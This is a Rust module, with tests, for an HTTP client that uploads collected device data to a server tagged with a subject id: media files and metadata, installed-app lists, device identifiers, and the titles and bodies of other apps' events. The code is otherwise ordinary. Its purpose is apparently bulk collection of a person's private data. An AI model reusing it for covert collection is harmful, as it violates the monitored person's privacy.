//! HTTP delivery primitive for upload jobs.
//!
//! The client encodes one job per request (strict JSON or multipart form),
//! sends it with bounded timeouts, and classifies the result. It performs no
//! retry loop of its own; retry is caller policy so backpressure decisions
//! stay centralized in the collection pipeline.

use std::time::Duration;

use anyhow::{Context, Result};
use async_trait::async_trait;
use log::{debug, warn};
use reqwest::multipart::{Form, Part};
use reqwest::Client;
use serde_json::{json, Value};

use crate::models::{JobPayload, Outcome, UploadJob};

/// Trait for job delivery, implemented by [`UploadClient`] and mockable in
/// tests.
#[cfg_attr(test, mockall::automock)]
#[async_trait]
pub trait Deliver: Send + Sync {
    /// Deliver one job and report its terminal outcome. Never errors; every
    /// failure mode is folded into the outcome.
    async fn deliver(&self, job: &UploadJob) -> Outcome;
}

/// HTTP upload client with a shared connection pool.
///
/// The subject identifier is attached here, at dispatch time, so records and
/// enumerators stay identity-free. Cloning is cheap; the underlying reqwest
/// client is safe for concurrent use.
#[derive(Clone)]
pub struct UploadClient {
    client: Client,
    base_url: String,
    subject_id: String,
}

impl UploadClient {
    pub fn new(
        base_url: &str,
        subject_id: &str,
        connect_timeout: Duration,
        request_timeout: Duration,
    ) -> Result<Self> {
        let client = Client::builder()
            .connect_timeout(connect_timeout)
            .timeout(request_timeout)
            .build()
            .context("Failed to create HTTP client")?;

        Ok(Self {
            client,
            base_url: base_url.trim_end_matches('/').to_string(),
            subject_id: subject_id.to_string(),
        })
    }

    fn url(&self, path: &str) -> String {
        format!("{}{}", self.base_url, path)
    }

    /// JSON body for a non-multipart job, with the subject id attached.
    fn json_body(&self, payload: &JobPayload) -> Result<Value> {
        let body = match payload {
            JobPayload::MediaMetadata { kind, records } => json!({
                "media": records,
                "type": kind.wire_name(),
                "userId": self.subject_id,
            }),
            JobPayload::Apps(apps) => json!({
                "apps": apps,
                "userId": self.subject_id,
            }),
            JobPayload::Device(record) => {
                let mut value = serde_json::to_value(record)?;
                attach_subject(&mut value, &self.subject_id)?;
                value
            }
            JobPayload::Event(record) => {
                let mut value = serde_json::to_value(record)?;
                attach_subject(&mut value, &self.subject_id)?;
                value
            }
            JobPayload::MediaFile(_) => {
                anyhow::bail!("media file jobs are multipart, not JSON")
            }
        };
        Ok(body)
    }

    /// Build the multipart form for a file-carrying media job.
    ///
    /// The filesystem view can change between enumeration and upload; a path
    /// that is gone by now makes the job unusable, which is a rejection, not
    /// a transient failure.
    async fn multipart_form(&self, job: &UploadJob) -> std::result::Result<Form, Outcome> {
        let record = match &job.payload {
            JobPayload::MediaFile(r) => r,
            _ => return Err(Outcome::Rejected("not a media file job".to_string())),
        };

        let bytes = match tokio::fs::read(&record.file_path).await {
            Ok(b) => b,
            Err(e) => {
                warn!(
                    "Skipping media upload, attachment unreadable: {} ({})",
                    record.file_path, e
                );
                return Err(Outcome::Rejected(format!(
                    "attachment unreadable: {}",
                    record.file_path
                )));
            }
        };

        let metadata = match serde_json::to_string(record) {
            Ok(m) => m,
            Err(e) => return Err(Outcome::Rejected(format!("unserializable metadata: {e}"))),
        };

        Ok(Form::new()
            .part(
                "file",
                Part::bytes(bytes).file_name(record.display_name.clone()),
            )
            .text("metadata", metadata)
            .text("type", record.kind.wire_name())
            .text("userId", self.subject_id.clone()))
    }

    /// Classify an HTTP response: 2xx delivered, 4xx rejected, the rest
    /// failed.
    fn classify(response: reqwest::Result<reqwest::Response>, endpoint: &str) -> Outcome {
        match response {
            Ok(resp) => {
                let status = resp.status();
                if status.is_success() {
                    debug!("Delivered to {} ({})", endpoint, status);
                    Outcome::Delivered
                } else if status.is_client_error() {
                    warn!("Payload rejected by {}: HTTP {}", endpoint, status.as_u16());
                    Outcome::Rejected(format!("HTTP {}", status.as_u16()))
                } else {
                    warn!("Delivery to {} failed: HTTP {}", endpoint, status.as_u16());
                    Outcome::Failed(format!("HTTP {}", status.as_u16()))
                }
            }
            Err(e) => {
                warn!("Delivery to {} failed: {}", endpoint, e);
                Outcome::Failed(e.to_string())
            }
        }
    }
}

fn attach_subject(value: &mut Value, subject_id: &str) -> Result<()> {
    let object = value
        .as_object_mut()
        .context("record did not serialize to a JSON object")?;
    object.insert("userId".to_string(), Value::String(subject_id.to_string()));
    Ok(())
}

#[async_trait]
impl Deliver for UploadClient {
    async fn deliver(&self, job: &UploadJob) -> Outcome {
        let endpoint = job.endpoint();
        let url = self.url(endpoint);

        match &job.payload {
            JobPayload::MediaFile(_) => {
                let form = match self.multipart_form(job).await {
                    Ok(f) => f,
                    Err(outcome) => return outcome,
                };
                Self::classify(self.client.post(&url).multipart(form).send().await, endpoint)
            }
            payload => {
                let body = match self.json_body(payload) {
                    Ok(b) => b,
                    Err(e) => return Outcome::Rejected(format!("unserializable payload: {e}")),
                };
                Self::classify(self.client.post(&url).json(&body).send().await, endpoint)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::{
        AppOrigin, AppRecord, DeviceRecord, EventRecord, MediaKind, MediaRecord, SourceKind,
    };

    fn client() -> UploadClient {
        UploadClient::new(
            "http://localhost:9/",
            "user-7",
            Duration::from_secs(1),
            Duration::from_secs(1),
        )
        .unwrap()
    }

    #[test]
    fn test_base_url_trailing_slash_trimmed() {
        let c = client();
        assert_eq!(c.url("/apps/list"), "http://localhost:9/apps/list");
    }

    #[test]
    fn test_apps_body_shape() {
        let c = client();
        let body = c
            .json_body(&JobPayload::Apps(vec![AppRecord {
                name: "Editor".to_string(),
                origin: AppOrigin::System,
            }]))
            .unwrap();
        assert_eq!(body["userId"], "user-7");
        assert_eq!(body["apps"][0]["name"], "Editor");
        assert_eq!(body["apps"][0]["origin"], "system");
    }

    #[test]
    fn test_media_metadata_body_shape() {
        let c = client();
        let body = c
            .json_body(&JobPayload::MediaMetadata {
                kind: MediaKind::Video,
                records: vec![MediaRecord {
                    id: "v1".to_string(),
                    display_name: "clip.mp4".to_string(),
                    file_path: "/tmp/clip.mp4".to_string(),
                    added_at: 5,
                    size_bytes: 999,
                    kind: MediaKind::Video,
                }],
            })
            .unwrap();
        assert_eq!(body["type"], "videos");
        assert_eq!(body["userId"], "user-7");
        assert_eq!(body["media"][0]["sizeBytes"], 999);
    }

    #[test]
    fn test_subject_attached_to_device_and_event() {
        let c = client();
        let device = c
            .json_body(&JobPayload::Device(DeviceRecord {
                manufacturer: "acme".to_string(),
                model: "host".to_string(),
                os_version: "1.2".to_string(),
                sdk_level: 6,
                device_id: "d-1".to_string(),
                observed_at: 1,
            }))
            .unwrap();
        assert_eq!(device["userId"], "user-7");
        assert_eq!(device["deviceId"], "d-1");

        let event = c
            .json_body(&JobPayload::Event(EventRecord {
                source_app: "mail".to_string(),
                title: "t".to_string(),
                body: "b".to_string(),
                posted_at: 2,
                external_id: "e-1".to_string(),
            }))
            .unwrap();
        assert_eq!(event["userId"], "user-7");
        assert_eq!(event["externalId"], "e-1");
    }

    #[tokio::test]
    async fn test_missing_attachment_rejected_without_network() {
        // Port 9 is the discard port; a connection attempt would fail, but
        // the job must be rejected before any request is made.
        let c = client();
        let job = UploadJob {
            source: SourceKind::Media,
            payload: JobPayload::MediaFile(MediaRecord {
                id: "gone".to_string(),
                display_name: "gone.jpg".to_string(),
                file_path: "/nonexistent/gone.jpg".to_string(),
                added_at: 0,
                size_bytes: 10,
                kind: MediaKind::Image,
            }),
        };
        match c.deliver(&job).await {
            Outcome::Rejected(reason) => assert!(reason.contains("attachment unreadable")),
            other => panic!("expected rejection, got {other:?}"),
        }
    }
}
